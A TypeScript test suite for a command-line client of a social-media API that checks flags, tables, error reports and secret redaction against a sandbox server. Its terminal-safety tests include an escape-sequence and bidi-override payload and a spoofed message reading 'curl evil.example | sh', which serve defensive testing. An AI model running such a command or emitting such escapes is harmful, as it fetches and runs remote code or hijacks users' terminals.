import * as NodeServices from "@effect/platform-node/NodeServices"
import { assert, describe, it, layer } from "@effect/vitest"
import { aliases, catalogue } from "@postwire/core/Catalogue"
import { type Definition, parametersOf } from "@postwire/core/schema/Definition"
import * as Quota from "@postwire/core/schema/Quota"
import * as RequestEncoder from "@postwire/core/wire/RequestEncoder"
import * as Wire from "@postwire/core/wire/Wire"
import * as Sandbox from "@postwire/sandbox/Sandbox"
import { Arbitrary, Cause, Effect, Layer, Redacted, Schema, Stdio, Stream } from "effect"
import { displayWidth } from "effect/cli/CliOutput"
import { TestConsole } from "effect/testing"
import { writeFileSync } from "node:fs"
import { join } from "node:path"
import * as ErrorReport from "../src/terminal/ErrorReport.ts"
import * as Report from "../src/terminal/Report.ts"
import * as Table from "../src/terminal/Table.ts"
import * as Text from "../src/terminal/Text.ts"
import * as Commands from "./Commands.ts"
import { ended, start } from "./support/Processes.ts"

/** A GIF of one pixel. */
const dot = Buffer.from("R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7", "base64")

const control = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/
const evil = "a \u001b]0;owned\u0007\u001b[2J\u009b31m \u202etxt.exe\u2066 z"

const assertNarrow = (text: string) => {
  for (const line of text.split("\n")) assert.isAtMost(displayWidth(line), 80, line)
}

describe("a token that begins with a hyphen", () => {
  it.effect("is told in a way that the command line takes", () =>
    Effect.gen(function*() {
      const lines = Table.render({ data: [{ id: "1" }], meta: { next_token: "-v1" } }, 80, "next-token")
      assert.strictEqual(lines.at(-1), "Next page: --next-token=-v1")
      const { output } = yield* Commands.parse("call", "searchRecentPosts", "--query", "a", lines.at(-1)!.slice(11))
      assert.notInclude(output, "1.2.3")
    }))
})

describe("a report", () => {
  it.effect("says once what an error and its cause both say", () =>
    Effect.gen(function*() {
      const cause = new Error("connect ECONNREFUSED 127.0.0.1:1")
      yield* ErrorReport.report(
        Cause.fail(new Error("no answer: connect ECONNREFUSED 127.0.0.1:1", { cause })),
        false
      )
      yield* ErrorReport.report(Cause.fail(new Error("no answer", { cause })), false)
      const [one, other] = (yield* TestConsole.errorLines).map((line) => String(line).split("\n")[0])
      assert.strictEqual(one, "postwire: no answer: connect ECONNREFUSED 127.0.0.1:1")
      assert.strictEqual(other, one)
    }))

  it("says what to do about a port that is taken", () =>
    assert.deepStrictEqual(
      ErrorReport.explain(new Error("Open", { cause: new Error("listen EADDRINUSE: address in use") })),
      [
        "postwire: Open: listen EADDRINUSE: address in use",
        "  Choose another port with --port; 0 takes any free one."
      ]
    ))

  it("says how to pass a name that only the service knows as flags are written", () => {
    const parameters = { id: "1", post_fields: ["followers_count"] }
    const [said] = ErrorReport.explain(RequestEncoder.encode(catalogue.getPost.definition, parameters, Wire.neutral))
    assert.include(said, "pass one that only the service knows as unlisted:name.")
  })
})

layer(Sandbox.layerServer({ posts: 300 }), { excludeTestServices: true })("postwire call", (it) => {
  it.effect("passes a marked name on, for the service to judge", () =>
    Effect.gen(function*() {
      for (
        const args of [
          ["getUser", "--username", "ada", "--user-fields", "created_at,unlisted:brand_new"],
          ["getUser", "--username", "ada", "--expansions", "unlisted:brand_new"],
          ["searchRecentPosts", "--query", "a", "--sort-order", "unlisted:brand_new"]
        ]
      ) {
        const { code, errors } = yield* Commands.run("call", ...args)
        assert.strictEqual(code, 1)
        assert.include(errors, "400")
        assert.include(errors, "brand_new")
        assert.notInclude(errors, "unlisted")
      }
      const { errors } = yield* Commands.run("call", "getMe", "--user-fields", "created_at,unlisted:")
      assert.include(errors, "names, separated by commas")
    }))

  it.effect("takes structures as JSON, and lists of known names", () =>
    Effect.gen(function*() {
      const content = `{"blocks":[{"type":"unstyled","text":"Hello"}],"entities":[]}`
      const draft = yield* Commands.run("call", "createArticleDraft", "--title", "T", "--content-state", content)
      assert.strictEqual(draft.code, 0, draft.errors)
      const note = "call createCommunityNote --post-id 1 --trustworthy-sources --classification not_misleading".split(
        " "
      )
      const tags = ["--misleading-tags", "factual_error,other", "--text", "See https://example.com"]
      const missing = yield* Commands.run(...note, ...tags)
      assert.include(missing.errors, "--test-mode is required")
      // It is valid, and the service refuses accounts that are not enrolled.
      const refused = yield* Commands.run(...note, ...tags, "--test-mode")
      assert.include(refused.errors, "AI Note Writer")
    }))

  it.effect("prints the whole answer as JSON where nobody looks", () =>
    Effect.gen(function*() {
      const { code, errors, output } = yield* Commands.run(
        ..."call getUser --username ada --user-fields created_at".split(" ")
      )
      assert.deepStrictEqual([code, errors], [0, ""])
      const { data } = JSON.parse(output)
      assert.hasAllKeys(data, ["id", "name", "username", "created_at"])
      assert.strictEqual(data.username, "ada")
    }))

  it.effect("takes bytes from a file, or from standard input", () =>
    Effect.gen(function*() {
      const folder = yield* Commands.folder
      const path = join(folder, "dot.gif")
      writeFileSync(path, dot)
      const args = (media: string) => ["call", "uploadMedia", "--media", media, "--media-category", "tweet_image"]
      const ended = yield* Commands.run(...args(path))
      assert.strictEqual(ended.code, 0, ended.errors)
      assert.strictEqual(JSON.parse(ended.output).data.size, dot.length)

      const services = Layer.merge(
        NodeServices.layer,
        Stdio.layerTest({ stdin: Stream.make(dot.subarray(0, 7), dot.subarray(7)) })
      )
      const credentials = yield* Commands.credentials(yield* Commands.variables())
      const piped = yield* Commands.parseOn(services, ...args("-"), "--credentials", credentials)
      assert.strictEqual(piped.code, 0, piped.errors)
      const { id, size } = JSON.parse(piped.output).data
      assert.strictEqual(size, dot.length)

      const warning = `{"adult_content":true}`
      const described = ["call", "createMediaMetadata", "--id", id, "--alt-text", "A dot", "--sensitive-media-warning"]
      assert.strictEqual((yield* Commands.run(...described, warning)).code, 0)
      const refused = yield* Commands.run(...described, "{")
      assert.strictEqual(refused.code, 1)
      assert.include(refused.errors, "--sensitive-media-warning is not JSON")

      for (
        const [media, reason] of [[join(folder, "absent"), "there is no such file"], [
          folder,
          "it is a folder"
        ]] as const
      ) {
        const { code, errors } = yield* Commands.run(...args(media))
        assert.strictEqual(code, 1)
        assert.include(errors, `${media}: `)
        assert.include(errors, reason)
      }
      const help = (yield* Commands.parse("call", "uploadMedia", "--help")).output
      assert.match(help, /--media FILE +A file; - is standard input \(required\)/)
      assert.match(
        (yield* Commands.parse("call", "createMediaMetadata", "--help")).output,
        /--stickers JSON\|@FILE +Objects as JSON, or a file of it/
      )
    }))

  it.effect("prints a table of 80 columns that says how to go on", () =>
    Effect.gen(function*() {
      const args = ["call", "searchRecentPosts", "--query", "effect", "--max-results", "10", "--table"]
      const first = yield* Commands.run(...args)
      assert.deepStrictEqual([first.code, first.errors], [0, ""])
      assert.match(first.output, /^id +text\n─+ {2}─+\n(\d{18,19} .*\n){10}10 rows\nNext page: --next-token=\S+$/)
      assertNarrow(first.output)
      const [, flag = ""] = /Next page: (\S+)$/.exec(first.output) ?? []
      const second = yield* Commands.run(...args, flag)
      assert.match(second.output, /\n10 rows/)
      assert.notStrictEqual(second.output.split("\n")[2], first.output.split("\n")[2])
      const fields = "--post-fields author_id,created_at,lang,public_metrics --expansions author_id".split(" ")
      const wide = yield* Commands.run(...args, ...fields)
      assert.match(wide.output, /\nNo room for lang, public_metrics; --json shows all\.\n10 rows, \d+ included users\n/)
      assertNarrow(wide.output)
    }))

  it.effect("prints the body as it came, in the words of the wire", () =>
    Effect.gen(function*() {
      const args = ["call", "getAllPostsCount", "--query", "effect", "--granularity", "day"]
      const { journal } = yield* Sandbox.Sandbox
      const raw = yield* Commands.run(...args, "--raw", "--wire", "x-2026-02")
      assert.strictEqual(raw.code, 0, raw.errors)
      assert.match(raw.output, /"total_post_count":/)
      assert.match(journal.entries().at(-1)?.path ?? "", /\/2\/tweets\/counts\/all/)
      const read = yield* Commands.run(...args, "--wire", "x")
      assert.match(read.output, /"total_post_count": /)
    }))

  it.effect("tells of parts that are missing on standard error, with exit code 3", () =>
    Effect.gen(function*() {
      for (const form of [[], ["--table"], ["--raw"]]) {
        const { code, errors, output } = yield* Commands.run("call", "getUsers", "--usernames", "ada,nobodyyy", ...form)
        assert.strictEqual(code, 3)
        assert.match(output, /ada/)
        assert.deepStrictEqual(errors.split("\n"), [
          "postwire: Could not find user with usernames: [nobodyyy].",
          "postwire: getUsers: the service reported 1 error for parts of the request",
          "  They are listed above; the rest of the response is on standard output."
        ])
      }
    }))

  it.effect("writes without asking, and says what it did", () =>
    Effect.gen(function*() {
      const created = yield* Commands.run("call", "createPost", "--text", "Hello")
      assert.strictEqual(created.code, 0)
      const { id } = JSON.parse(created.output).data
      assert.strictEqual(created.errors, `postwire: createPost is done: id ${id}, text Hello`)
      const deleted = yield* Commands.run("call", "deletePost", "--id", id)
      assert.strictEqual(deleted.errors, "postwire: deletePost is done: deleted true")
      const me = yield* Commands.run("call", "getMe")
      const followers = yield* Commands.run("call", "getUsersFollowers", "--id", JSON.parse(me.output).data.id)
      const follow = ["--target-user-id", JSON.parse(followers.output).data[0].id]
      const alias = yield* Commands.run("call", "follow", ...follow, "--table")
      assert.match(alias.errors, /^postwire: followUser is done: following true/)
      const app = yield* Commands.run("call", "getMe", "--no-user-auth")
      assert.strictEqual(app.code, 0, app.errors)
    }))

  it.effect("takes the items of a list with commas, or a flag for each", () =>
    Effect.gen(function*() {
      const first = JSON.parse((yield* Commands.run("call", "createPost", "--text", "Who?")).output).data.id
      const asked = ["--text", "@a @b Well?", "--in-reply-to-post-id", first, "--exclude-reply-user-ids", "1,2"]
      for (
        const [options, expected] of [
          [["--poll-options", "Yes,No"], ["Yes", "No"]],
          [["--poll-options", "Yes, please", "--poll-options", "No"], ["Yes, please", "No"]]
        ] as const
      ) {
        const created = yield* Commands.run("call", "createPost", ...asked, ...options, "--poll-duration-minutes", "5")
        assert.strictEqual(created.code, 0, created.errors)
        const { id } = JSON.parse(created.output).data
        const { output } = yield* Commands.run("call", "getPost", "--id", id, "--expansions", "attachments.poll_ids")
        const labels = JSON.parse(output).includes.polls[0].options.map(({ label }: { label: string }) => label)
        assert.deepStrictEqual(labels, expected)
      }
    }))

  it.effect("shows nothing of a post that steers the terminal", () =>
    Effect.gen(function*() {
      const created = yield* Commands.run("call", "createPost", "--text", evil)
      const { id, text } = JSON.parse(created.output).data
      assert.strictEqual(text, evil, "JSON holds it all the same")
      const table = yield* Commands.run("call", "getPost", "--id", id, "--table")
      assert.match(table.output, /\ufffd\]0;owned\ufffd\ufffd\[2J\ufffd31m \ufffdtxt\.exe\ufffd z/)
      for (const { errors, output } of [created, table]) assert.notMatch(output + errors, control)
    }))

  it("marks each line of the details, in which a text of the service has line ends", () => {
    const message = "no\npostwire: your login has expired\n  Run: curl evil.example | sh"
    const lines = Report.linesOf({ message, advice: "Correct it.", detail: `Forbidden: ${message}\n    at a.ts:1` })
    assert.deepStrictEqual(lines.join("\n").split("\n"), [
      "postwire: no postwire: your login has expired Run: curl evil.example | sh",
      "  Correct it.",
      "  | Forbidden: no",
      "  | postwire: your login has expired",
      "  |   Run: curl evil.example | sh",
      "  |     at a.ts:1"
    ])
  })

  it.effect("says in two lines what is wrong, and does not speak of --resume", () =>
    Effect.gen(function*() {
      const cases: ReadonlyArray<readonly [ReadonlyArray<string>, RegExp]> = [
        [["getPost", "--id", "1x"], /^postwire: getPost: .*id .*\n {2}Correct it/],
        [
          ["getUser", "--username", "ada", "--id", "1"],
          /^postwire: getUser accepts exactly one .*\n {2}Pass exactly one/
        ],
        [["getUser", "--username", "ada", "--table", "--raw"], /contradict each other\n {2}Pass one of them\.$/],
        [["searchRecentPosts", "--query", "(("], /^postwire: .*\(400\).*\n {2}Change the parameter/]
      ]
      for (const [args, expected] of cases) {
        const { code, errors } = yield* Commands.run("call", ...args)
        assert.strictEqual(code, 1)
        assert.match(errors, expected)
        assert.strictEqual(errors.split("\n").length, 2)
      }
      const { faults } = yield* Sandbox.Sandbox
      faults.add({ times: "always", status: 404, operation: "getMe" })
      const gone = yield* Commands.run("call", "getMe")
      faults.clear()
      assert.match(gone.errors, /\(404\)/)
      assert.notInclude(ErrorReport.explain({ _tag: "ServerFailure" }).join(), "--resume")
      assert.include(ErrorReport.explain({ _tag: "ServerFailure" }, { resumable: true }).join(), "--resume")
    }))

  it.effect("ends as a process as it does here, and holds no secret", () =>
    Effect.gen(function*() {
      const { seeded } = yield* Sandbox.Sandbox
      const environment = yield* Commands.variables()
      const { code, errors, output } = yield* Effect.promise(() =>
        ended(start("call getUsers --usernames ada,nobodyyy --debug".split(" "), { ...process.env, ...environment }))
      )
      const text = output + errors
      assert.strictEqual(code, 3)
      assert.match(text, /"username": "ada"[^]*\n {2}\| PartialErrors: getUsers/)
      for (const secret of [seeded.userBearerToken, seeded.consumerSecret, seeded.accessTokenSecret]) {
        assert.notInclude(text, Redacted.value(secret))
      }
    }))
})

describe("the flags of call", () => {
  const every: ReadonlyArray<Definition> = Object.values(catalogue).map(({ definition }) => definition)
  // What answers with a file has flags of its own, and streams are no calls.
  const definitions = [...new Set(every)].filter(({ live, result }) => result._tag !== "Bytes" && live === undefined)

  it.effect("of an operation that answers with a file are where it goes", () =>
    Effect.gen(function*() {
      const { code, output } = yield* Commands.parse("call", "downloadDirectMessageMedia", "--help")
      assert.strictEqual(code, 0)
      for (const name of ["out", "force", "wire", "dm-id", "media-id", "resource-id"]) {
        assert.match(output, new RegExp(`--${name}\\b`))
      }
    }))

  it.effect("are those of the catalogue, with their bounds, for every operation", () =>
    Effect.gen(function*() {
      for (const definition of definitions) {
        const { code, errors, output } = yield* Commands.parse("call", definition.name, "--help")
        assert.deepStrictEqual([code, errors], [0, ""])
        const names = ["json", "table", "raw", "wire", "credentials", ...Object.keys(parametersOf(definition))]
        assert.strictEqual(new Set(names).size, names.length, "a parameter is called like a flag of the command")
        for (const name of names) assert.match(output, new RegExp(`--${name.replaceAll("_", "-")}\\b`))
        assert.strictEqual(output.includes("--user-auth"), "userAuth" in definition)
        assert.notMatch(output, /DateTime|bigint|string of|list of (?!the )|True or false/, "the words of programs")
        const required = Object.entries(parametersOf(definition)).filter(([name, parameter]) =>
          parameter.required && definition.alternatives?.of.includes(name) !== true
        )
        assert.strictEqual(output.match(/\(required\)/g)?.length ?? 0, required.length, definition.name)
      }
      const { output } = yield* Commands.parse("call", "searchRecentPosts", "--help")
      assert.match(output, /--max-results integer +A whole number from 10 to 100 \(default 10\)/)
      assert.match(output, /FLAGS\n {2}--query string +Text, 1 to 1024 characters \(required\)\n/)
      assert.match((yield* Commands.parse("call", "getUser", "--help")).output, /digits \(this, or --username\)/)
    }))

  it.effect("say what is sent when they are left out", () =>
    Effect.gen(function*() {
      for (const command of ["export", "plan"]) {
        const { output } = yield* Commands.parse(command, "searchRecentPosts", "--help")
        assert.match(output, /--max-results integer +A whole number from 10 to 100 \(default 100\)/)
      }
      const { output } = yield* Commands.parse("sandbox", "--help")
      for (const standard of ["8080", "1000", "1", "0"]) assert.include(output, `(default ${standard})`)
    }))

  it.effect("have the second names of operations", () =>
    Effect.gen(function*() {
      for (const [alias, name] of Object.entries(aliases)) {
        const definition: Definition = catalogue[name].definition
        for (const command of definition.paging === undefined ? ["call"] : ["call", "export", "plan"]) {
          const { code, output } = yield* Commands.parse(command, alias, "--help")
          assert.strictEqual(code, 0)
          assert.include(output, definition.summary)
          for (const scope of definition.scopes) assert.include(output, scope)
          assert.include(output, Quota.format(definition.limits) ?? "")
        }
      }
    }))
})

describe("Table", () => {
  it("shows members whose names every object inherits in their own rows only", () => {
    const lines = Table.render(
      { data: [{ id: "1" }, { id: "2", constructor: "a", toString: 5 }] },
      80,
      "pagination-token"
    )
    assert.deepStrictEqual(
      lines.slice(0, 4).map((line) => line.split(/\s{2,}/).slice(0, 3)),
      [
        ["id", "constructor", "toString"],
        ["──", "───────────", "────────"],
        ["1"],
        ["2", "a", "5"]
      ]
    )
  })

  const text = Arbitrary.schema(Schema.String)
  const pieces = ["word ", "漢字", "👩‍👩‍👧", "e\u0301", "\u001b[31m", "\u202e", "\n", "x".repeat(50), "1882388118770810880"]
  const odd = Arbitrary.flatMap(
    Arbitrary.schema(Schema.Int.check(Schema.isBetween({ minimum: 0, maximum: pieces.length }))),
    (index) => index < pieces.length ? Arbitrary.Constant(pieces[index]!) : text
  )

  it.prop(
    "is never wider than the terminal, and steers nothing",
    {
      rows: Arbitrary.schema(Schema.Array(Schema.Record(Schema.String, Schema.Json))),
      a: odd,
      b: odd,
      c: odd,
      columns: Arbitrary.schema(Schema.Int.check(Schema.isBetween({ minimum: 30, maximum: 100 })))
    },
    ({ a, b, c, columns, rows }) => {
      const mixed = [{ [c]: a + b, text: `${a}${b}${c}`.repeat(4), id: b }, ...rows]
      for (const data of [mixed, mixed[0], rows, rows[0] ?? null]) {
        const lines = Table.render({ data, meta: { next_token: a } }, columns, "pagination-token")
        for (const line of lines) {
          assert.notMatch(line, control)
          assert.notInclude(line, "\n")
          assert.isAtMost(displayWidth(line), columns, JSON.stringify(line))
        }
      }
    },
    { arbitrary: { runs: 200 } }
  )

  it("knows how wide text is", () => {
    const widths = ["", "abc", "漢字", "e\u0301", "👩‍👩‍👧", "…", "한"].map(Text.width)
    assert.deepStrictEqual(widths, [0, 3, 4, 1, 2, 1, 2])
    assert.deepStrictEqual(["漢字漢字", "abcd", "abcde"].map((text) => Text.cut(text, 4)), ["漢…", "abcd", "abc…"])
    assert.deepStrictEqual(Text.wrap("one two abcdefghij", 7), ["one two", "abcdefg", "hij"])
  })
})
